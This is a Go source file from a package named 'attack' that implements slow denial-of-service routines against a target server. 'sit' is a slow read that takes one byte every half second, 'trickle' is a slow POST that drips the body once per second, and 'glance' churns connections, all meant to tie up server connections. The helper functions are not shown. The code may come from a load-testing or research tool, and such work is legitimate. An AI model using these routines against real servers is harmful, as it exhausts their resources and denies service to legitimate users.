package attack

import (
	"context"
	"io"
	"net"
	"time"
)

// sit sends a request and takes a byte of the answer every half second. It returns when the
// connection has ended.
func (t *Target) sit(ctx context.Context, request string) {
	conn := t.raw(ctx, 4096, request)
	if conn == nil {
		pause(ctx, 200*time.Millisecond)
		return
	}
	defer conn.Close()
	one := make([]byte, 1)
	for pause(ctx, 500*time.Millisecond) {
		_ = conn.SetReadDeadline(time.Now().Add(time.Millisecond))
		if _, err := conn.Read(one); err != nil && !isTimeout(err) {
			return
		}
	}
}

// glance sends a request, reads at most n bytes of the answer and ends the connection.
func (t *Target) glance(ctx context.Context, request string, n int) {
	conn := t.raw(ctx, 4096, request)
	if conn == nil {
		pause(ctx, 10*time.Millisecond)
		return
	}
	defer conn.Close()
	_ = conn.SetReadDeadline(time.Now().Add(2 * time.Second))
	_, _ = conn.Read(make([]byte, n))
}

// trickle sends the head of a request at once, and then a piece of its body every second. It
// returns when the connection has ended.
func (t *Target) trickle(ctx context.Context, head, piece string) {
	conn := t.raw(ctx, 4096, head)
	if conn == nil {
		pause(ctx, 200*time.Millisecond)
		return
	}
	defer conn.Close()
	one := make([]byte, 1)
	for {
		_ = conn.SetDeadline(time.Now().Add(time.Second))
		if _, err := conn.Read(one); err != nil && !isTimeout(err) || ctx.Err() != nil {
			return
		}
		_ = conn.SetDeadline(time.Now().Add(time.Second))
		if _, err := io.WriteString(conn, piece); err != nil {
			return
		}
	}
}

func isTimeout(err error) bool {
	timeout, ok := err.(net.Error)
	return ok && timeout.Timeout()
}
